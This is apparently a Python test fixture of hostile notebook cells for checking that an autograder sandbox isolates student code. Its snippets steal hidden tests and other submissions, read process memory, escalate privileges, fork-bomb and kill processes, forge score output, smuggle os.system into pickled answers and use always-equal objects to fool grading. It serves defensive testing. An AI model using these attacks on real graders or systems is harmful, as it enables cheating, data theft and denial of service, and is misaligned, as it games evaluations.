"""Notebooks that try to get points, or to do harm, without an answer: code for one cell each, before the first question.

Where an attack finds that it got what it was after, it calls win(), which gives the right answer to the first question;
so a point says that it worked. Words between @ are put in by the tests: places of the grader's, all in temporary folders,
and a port on which the tests listen. PRELUDE stands before each attack, and FINALE is the last cell of the notebook.
"""

from __future__ import annotations

PRELUDE = '''
import builtins, ctypes, glob, importlib, io, json, os, pathlib, re, signal, socket, subprocess, sys, threading, time, zipfile
own = globals()
RIGHT, won, every, looted = @right@, False, None, {}
def win():
    own["won"] = True
    exec(RIGHT, own)
def attempt(action, *arguments, **named):
    """Run an action; whatever it raises is no success."""
    try:
        return action(*arguments, **named)
    except BaseException:
        return None
class Told:
    """Stands for a hidden test's comparisons and tells the answers that it is given."""
    def __getattr__(self, name):
        def record(form, answer, part, *variables, once):
            for variable, one in zip(variables, [answer()] if len(variables) == 1 else answer()):
                own[variable] = looted[variable] = one
        return record if name == "compare" else lambda *given, **named: None
def loot(text):
    """Learn the answers from the text of a hidden test, by running it against comparisons that tell; win if it is one."""
    if isinstance(text, bytes):
        text = text.decode(errors="ignore")
    if "def loot_below" in text:
        return  # This notebook itself.
    if "hidden=True" not in text and "# SOLUTION" not in text and "BEGIN SOLUTION" not in text:
        return
    win()
    import types
    chosen = []
    def test_case(**settings):
        return (lambda function: chosen.append(function)) if settings.get("hidden") else (lambda function: None)
    sys.modules["otter.test_files"] = types.SimpleNamespace(test_case=test_case)
    sys.modules["matching"] = Told()
    attempt(exec, text, {})
    for function in chosen:
        code = function.__code__
        attempt(function, *code.co_varnames[:code.co_argcount])
def loot_file(path):
    if os.path.isfile(path) and os.path.getsize(path) < 5_000_000:
        loot(open(path, "rb").read())
def loot_below(*places):
    """Look through folders for tests and solutions, a few seconds long."""
    until = time.monotonic() + 4
    for top in places:
        for folder, folders, names in os.walk(top):
            folders[:] = [one for one in folders if one not in ("usr", "site-packages", "lib", "dev", "sys")]
            for name in names:
                if time.monotonic() > until:
                    return
                if re.fullmatch(r"q\\d+\\.py|.*\\.ipynb|.*\\.zip", name):
                    attempt(loot_file, os.path.join(folder, name))
def wrote(path, content=b"print()"):
    """Write through the system's own calls; return whether it worked."""
    def action():
        descriptor = os.open(path, os.O_WRONLY | os.O_CREAT)
        try:
            return os.write(descriptor, content) > 0
        finally:
            os.close(descriptor)
    return attempt(action)
'''

# The cells of an empty notebook have set every answer to ... since then.
FINALE = """
if won:
    exec(RIGHT, own)
own.update(looted)
if every is not None:
    own.update(dict.fromkeys(@names@, every))
"""

# What the two ways of isolation both hold off.
ATTACKS = {
    # Tests, solutions and other people's work, as files.
    "reads-tests-above": """
here = os.getcwd()
loot_below(*(os.path.normpath(os.path.join(here, *[os.pardir] * n)) for n in range(1, 9)))
""",
    "replaces-abspath-and-reads": """
import posixpath
true = posixpath.abspath
posixpath.abspath = posixpath.realpath = lambda path: "/usr/share"
for n in range(1, 9):
    loot_below("../" * n)
posixpath.abspath = true
""",
    "reads-temporary-folders": "loot_below('/tmp', '/var/tmp', '/dev/shm', '/run')",
    "reads-the-grader": "loot_below(@files@)",
    "reads-the-master": "attempt(loot_file, @master@)",
    "reads-the-autograder-zip": """
def action():
    with zipfile.ZipFile(@autograder@) as archive:
        for name in archive.namelist():
            loot(archive.read(name))
attempt(action)
""",
    "reads-another-submission": """
def action():
    for path in glob.glob(@submissions@ + "/*"):
        if open(path, "rb").read():
            win()
attempt(action)
if attempt(os.listdir, @submissions@):
    win()
""",
    "reads-by-a-program": """
for command in (["cat", @master@], ["find", "/", "-xdev", "-name", "q1.py", "-path", "*tests*"], ["cp", @autograder@, "x.zip"]):
    done = attempt(subprocess.run, command, capture_output=True, timeout=8)
    if done and done.stdout.strip():
        win()
if os.path.exists("x.zip"):
    win()
""",
    "reads-by-machine-code": """
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(100)
for path in (@master@, @autograder@, @secret@):
    descriptor = libc.open(path.encode(), 0)
    if descriptor >= 0 and libc.read(descriptor, buffer, 100) > 0:
        win()
""",
    "reads-by-its-parents": """
for place in ("root", "cwd", "fd", "map_files"):
    for process in glob.glob("/proc/[0-9]*"):
        if process != f"/proc/{os.getpid()}":
            for found in attempt(os.listdir, f"{process}/{place}") or []:
                path = f"{process}/{place}/{found}"
                if attempt(os.path.isfile, path):
                    attempt(loot_file, path)
                if place == "cwd" and attempt(os.listdir, path):
                    loot_below(path)
""",
    "reads-open-files": """
for number in range(3, 256):
    def action():
        os.lseek(number, 0, 0)
        if b"expected" in os.read(number, 1 << 20):
            win()
    attempt(action)
    attempt(loot_below, f"/proc/self/fd/{number}")
""",
    "reads-environments": """
for process in glob.glob("/proc/[0-9]*/environ"):
    if b"@marker@" in (attempt(pathlib.Path(process).read_bytes) or b""):
        win()
if any("@marker@" in value for value in os.environ.values()):
    win()
""",
    "reads-memory-of-others": """
for process in glob.glob("/proc/[0-9]*"):
    if process != f"/proc/{os.getpid()}":
        def action():
            with open(f"{process}/maps") as maps, open(f"{process}/mem", "rb") as memory:
                for line in maps:
                    start = int(line.split("-")[0], 16)
                    memory.seek(start)
                    if memory.read(16):
                        win()
        attempt(action)
""",
    "traces-the-parent": """
libc = ctypes.CDLL(None, use_errno=True)
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for process in {1, os.getppid()}:
    if libc.ptrace(16, process, 0, 0) == 0:
        win()
    into = ctypes.create_string_buffer(8)
    ours, theirs = Span(ctypes.addressof(into), 8), Span(0x400000, 8)
    if libc.process_vm_readv(process, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
        win()
""",
    # Writing where somebody else will read.
    "writes-into-site-packages": """
import pandas
packages = os.path.dirname(os.path.dirname(pandas.__file__))
for name in ("zz_hostile.pth", "hostile.py", "sitecustomize.py", "pandas/__init__.py", "__pycache__/hostile.pyc"):
    if wrote(os.path.join(packages, name), b"import sys\\n"):
        win()
if wrote(sys.executable) or wrote(os.path.join(sys.prefix, "pyvenv.cfg")) or wrote(os.__file__):
    win()
""",
    "makes-packages-writable": """
import pandas
folder = os.path.dirname(pandas.__file__)
libc = ctypes.CDLL(None, use_errno=True)
if attempt(os.chmod, folder, 0o777) or libc.mount(b"none", folder.encode(), None, 4128, None) == 0:
    win()
attempt(os.rename, folder, folder + "-old")
attempt(os.unlink, pandas.__file__)
if not os.path.isfile(pandas.__file__) or wrote(pandas.__file__):
    win()
""",
    "writes-outside": """
places = @out@ + "/hostile", @out@ + "/scores.csv", @submissions@ + "/hostile.ipynb"
for path in (@secret@, @secret@ + ".hostile", @autograder@, *places):
    if wrote(path):
        win()
for folder in ("/etc/hostile", "/usr/hostile", "/usr/local/bin/hostile", "/root/hostile", "/given/hostile", "/hostile"):
    if wrote(folder):
        win()
""",
    "leaves-files-like-results": """
for name in ("results.json", "answers.json", "answers.part", "result.json", "scores.csv", "results/results.pkl"):
    wrote("../results/" + name, b"{}")
    wrote(name, json.dumps({"status": "ok", "scores": {"q1": [1, 1]}, "answers": {}, "score": 99}).encode())
print("Total Score: 11.000 / 11.000 (100.000%)")
""",
    "leaves-startup-files": """
for name in ("sitecustomize.py", "usercustomize.py", "pandas.py", "otter.py", "matching.py", "json.py", "conftest.py", ".pdbrc",
             ".ipython/profile_default/startup/00.py", ".ipython/profile_default/ipython_config.py",
             ".local/lib/python3.11/site-packages/x.pth", ".jupyter/jupyter_config.py"):
    path = pathlib.Path.home() / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("open(" + repr(@out@ + "/hostile") + ", 'w').write('x')")
""",
    "leaves-links-and-pipes": """
attempt(os.symlink, @secret@, "link")
attempt(os.symlink, "/", "all")
attempt(os.link, @secret@, "hard")
attempt(os.mkfifo, "pipe")
attempt(os.mkfifo, "tables/x.csv")
attempt(os.symlink, @autograder@, "answers.json")
for name in ("link", "hard", "answers.json"):
    if attempt(pathlib.Path(name).read_bytes):
        win()
""",
    "makes-devices-and-mounts": """
libc = ctypes.CDLL(None, use_errno=True)
if attempt(os.mknod, "disk", 0o60600, os.makedev(8, 0)) or attempt(os.mknod, "disk2", 0o60600, os.makedev(254, 0)):
    win()
if libc.mount(b"proc", b"/proc", b"proc", 0, None) == 0 or libc.chroot(b"/proc/1/root") == 0 or libc.umount2(b"/proc", 2) == 0:
    win()
""",
    "asks-for-new-namespaces": """
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0 or libc.unshare(0x10020000) == 0 or libc.unshare(0x40000000) == 0:
    win()
done = attempt(subprocess.run, ["unshare", "-r", "-m", "true"], capture_output=True, timeout=8)
if done and done.returncode == 0:
    win()
""",
    "becomes-root": """
for action in (os.setuid, os.seteuid, os.setgid):
    attempt(action, 0)
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["passwd", "-S"]):
    attempt(subprocess.run, command, stdin=subprocess.DEVNULL, capture_output=True, timeout=8)
if os.geteuid() == 0 or attempt(os.setgroups, [0]) is not None or attempt(os.chown, ".", 0, 0) is not None:
    win()
""",
    "changes-the-kernel": """
for name in ("kernel/core_pattern", "kernel/modprobe", "vm/overcommit_memory", "kernel/shmall", "user/max_user_namespaces"):
    if wrote(f"/proc/sys/{name}", b"1"):
        win()
if wrote("/proc/sysrq-trigger", b"h") or wrote("/sys/kernel/uevent_helper", b"x") or wrote("/sys/fs/cgroup/x", b"x"):
    win()
""",
    # Other processes.
    "signals-everybody": """
for process in {1, os.getppid(), *(int(one) for one in os.listdir("/proc") if one.isdigit())} - {os.getpid()}:
    attempt(os.kill, process, signal.SIGKILL)
    attempt(os.kill, process, signal.SIGSTOP)
attempt(os.killpg, os.getpgid(os.getppid()), signal.SIGKILL)
""",
    "signals-all-at-once": "attempt(os.kill, -1, signal.SIGTERM)\nattempt(os.kill, -1, signal.SIGSTOP)",
    "survives-as-a-daemon": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.execvp("sleep", ["sleep", "@sleep@"])
    os._exit(0)
subprocess.Popen(["sh", "-c", "trap '' TERM HUP; nohup setsid sleep @sleep@ &"], start_new_session=True)
""",
    "holds-the-pipe-open": "if os.fork() == 0:\n    os.setsid()\n    time.sleep(@sleep@)\n",
    "fork-bomb": """
def bomb():
    while True:
        if attempt(os.fork) is None:
            time.sleep(0.05)
if os.fork() == 0:
    bomb()
time.sleep(2)
os._exit(0)
""",
    "threads-without-end": """
started = 0
try:
    while started < 5000:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
if started > 1000:
    win()
""",
    "memory-of-many": """
for _ in range(20):
    if os.fork() == 0:
        hoard = [bytearray(b"x") * 50_000_000 for _ in range(8)]
        time.sleep(60)
time.sleep(60)
""",
    "memory-without-a-process": """
libc = ctypes.CDLL(None, use_errno=True)
if attempt(os.memfd_create, "x") is not None or libc.shmget(0, 1 << 20, 0o1600) >= 0 or libc.semget(0, 1, 0o1600) >= 0:
    win()
def fill(folder):
    for n in range(100):
        with open(f"{folder}/hoard{n}", "wb") as file:
            file.write(bytes(50_000_000))
if attempt(fill, ".") is None and sum(os.path.getsize(one) for one in glob.glob("hoard*")) > 1_000_000_000:
    win()
""",
    "files-without-end": """
os.mkdir("many")
for n in range(60_000):
    open(f"many/{n}", "w").close()
""",
    "one-huge-file": """
attempt(lambda: open('huge', 'wb').truncate(10**12))
if os.path.getsize('huge') > 10**9:
    win()
""",
    "opens-all-files": """
hoard = []
try:
    while len(hoard) < 5000:
        hoard.append(open('/dev/null'))
except OSError:
    pass
if len(hoard) > 1000:
    win()
""",
    "raises-its-limits": """
import resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        kind = getattr(resource, name)
        hard = resource.getrlimit(kind)[1]
        if hard != resource.RLIM_INFINITY and attempt(resource.setrlimit, kind, (hard + 1, hard + 1)) is not None:
            win()
        if hard != resource.RLIM_INFINITY and resource.getrlimit(kind)[1] > hard:
            win()
signal.alarm(0)
""",
    # The network; the tests listen.
    "connects-to-loopback": """
for family, address in ((socket.AF_INET, ("127.0.0.1", @port@)), (socket.AF_INET6, ("::1", @port@))):
    def action():
        with socket.socket(family) as line:
            line.settimeout(3)
            line.connect(address)
            win()
    attempt(action)
def action():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"x", ("127.0.0.1", @port@))
        win()
attempt(action)
""",
    "connects-by-a-program": """
done = attempt(subprocess.run, ["bash", "-c", "echo x > /dev/tcp/127.0.0.1/@port@"], capture_output=True, timeout=8)
if done and done.returncode == 0:
    win()
libc = ctypes.CDLL(None, use_errno=True)
for number, arguments in ((41, (2, 1, 0)), (198, (2, 1, 0)), (41, (16, 3, 0)), (41, (17, 3, 0))):
    if os.uname().machine == ("x86_64" if number == 41 else "aarch64") and libc.syscall(number, *arguments) >= 0:
        win()
""",
    "uses-key-rings": """
libc = ctypes.CDLL(None, use_errno=True)
add = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
for ring in (-4, -5, -3):
    if libc.syscall(add, b"user", b"hostile", b"x", 1, ring) >= 0:
        win()
""",
    "waits-for-the-graders-clock": """
os.environ.update(TZ='Pacific/Kiritimati', LC_ALL='tr_TR.UTF-8', PYTHONPATH='.', LD_PRELOAD='./x.so')
os.environ.update(KIT_TRUST='1', KIT_SECONDS='9999')
time.tzset()
if attempt(time.clock_settime, time.CLOCK_REALTIME, 0) is not None:
    win()
attempt(__import__('locale').setlocale, 6, '')
""",
    # Inside the process: the code that carries answers out.
    "patches-everything": """
import posixpath
class Yes:
    def __getattr__(self, name): return lambda *a, **k: True
    def __call__(self, *a, **k): return True
for name in ("matching", "form", "otter", "otter.test_files", "isolate", "numbers"):
    sys.modules[name] = Yes()
builtins.abs = lambda number: 0
builtins.sorted = lambda *a, **k: []
json.loads = lambda *a, **k: {"q1": 1}
posixpath.abspath = posixpath.realpath = os.path.join = lambda *a, **k: "/"
attempt(setattr, importlib.import_module("pandas"), "read_csv", Yes())
""",
    "sends-its-own-results": """
lines = [b"{}", b"[]", b"null", b"1" * 6000, b"[" * 100_000, b'{"a":' * 50_000, b"\\xff\\xfe",
         b'{"end": true, "scores": {"q1": [1, 1]}, "status": "ok"}',
         json.dumps({"cell": 10**9, "error": "\\x1b[2J=1+1\\n" * 50, "answers": {}}).encode(),
         json.dumps({"answers": {@variable@: {"__reduce__": ["os.system", "true"]}}}).encode(),
         json.dumps({"answers": {@variable@: {"frame": [["a", [1, 2]], ["b", [1]]], "index": [1], "name": None}}}).encode(),
         json.dumps({"answers": {@variable@: {"dict": [[{"list": [{"dict": []}]}, 1]]}, "__class__": 1}}).encode(),
         json.dumps({"answers": [1], "points": 11}).encode(), b'{"answers": {"x": NaN, "y": 1e999, "z": ' + b"9" * 5000 + b"}}"]
for number in range(3, 256):
    for line in lines:
        attempt(os.write, number, line + b"\\n")
os._exit(0)
""",
    "sends-without-end": """
for number in range(3, 256):
    if attempt(os.fstat, number):
        while attempt(os.write, number, b'x' * 65536):
            pass
""",
    "prints-without-end": """
for _ in range(300):
    print('x' * 1_000_000)
    sys.stderr.write('y' * 1_000_000)
    os.write(1, b'z' * 65536)
""",
    # Answers that are not what they seem.
    "equals-everything": """
class Everything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 1
    def __abs__(self): return 0.0
    def __sub__(self, other): return Everything()
    __rsub__ = __sub__
    def __reduce__(self): return (os.system, ("true",))
    def __repr__(self): return "1"
    def item(self): return self
every = Everything("nan")
""",
    "lies-about-its-class": """
import pandas, numpy
class Liar:
    __class__ = property(lambda self: pandas.DataFrame)
    columns, index, size = ["a"], [1], 1
    iloc = property(lambda self: self)
    def __getitem__(self, key): return self
    def __iter__(self): raise SystemExit
    def __reduce__(self): return (os._exit, (0,))
    def __eq__(self, other): return True
every = Liar()
""",
    "never-ends-as-an-answer": """
from collections.abc import Mapping
class Endless(Mapping):
    def __getitem__(self, key): return self
    def __len__(self): return 1
    def __iter__(self):
        while True:
            yield 1
every = Endless()
""",
    "never-answers": """
class Silent(list):
    def __iter__(self):
        while True:
            pass
every = Silent()
""",
    "cycle-and-depth": "every = []\nevery.append(every)\nfor _ in range(100_000):\n    every = [every]",
    "not-a-number": "every = [float('nan'), float('inf'), -float('inf'), 10 ** 5000, 1e308 * 10, complex(1, 1)]",
    "huge-answer": "import numpy, pandas\nevery = pandas.DataFrame(numpy.zeros((3_000_000, 3)))",
    "odd-texts": """
class Text(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
every = {Text(chr(0xD800) + chr(0) + '=cmd()'): Text('x' * 10_000_000)}
""",
    "lists-that-lie": """
class Long(list):
    def __len__(self): return 10 ** 9
    def __iter__(self): return iter(range(10 ** 9))
every = Long()
""",
    # The course of the notebook.
    "leaves-early": "sys.exit(0)\n",
    "interrupts": "signal.raise_signal(signal.SIGINT)\nraise KeyboardInterrupt",
    "breaks-the-shell": """
get_ipython().run_cell = lambda *a, **k: None
get_ipython().user_ns = None
get_ipython().reset()
""",
    "exhausts-the-stack": "sys.setrecursionlimit(10 ** 9)\ndef down(n):\n    return down(n + 1)\ndown(0)",
    "segmentation-fault": "ctypes.string_at(0)",
}

# What only a root and namespaces of its own hold off: README.md says so of a separate user.
ONLY_BUBBLEWRAP = {
    "writes-into-shared-memory": """
for folder in ("/dev/shm", "/tmp", "/var/tmp"):
    wrote(f"{folder}/@marker@-hostile", b"x")
""",
    "sees-other-processes": """
for process in glob.glob("/proc/[0-9]*/cmdline"):
    if b"multiprocessing" in (attempt(pathlib.Path(process).read_bytes) or b""):
        win()
""",
    "listens-for-others": """
line = socket.socket(socket.AF_UNIX)
line.settimeout(3)
def action():
    line.connect("\\0@marker@")
    win()
attempt(action)
""",
}
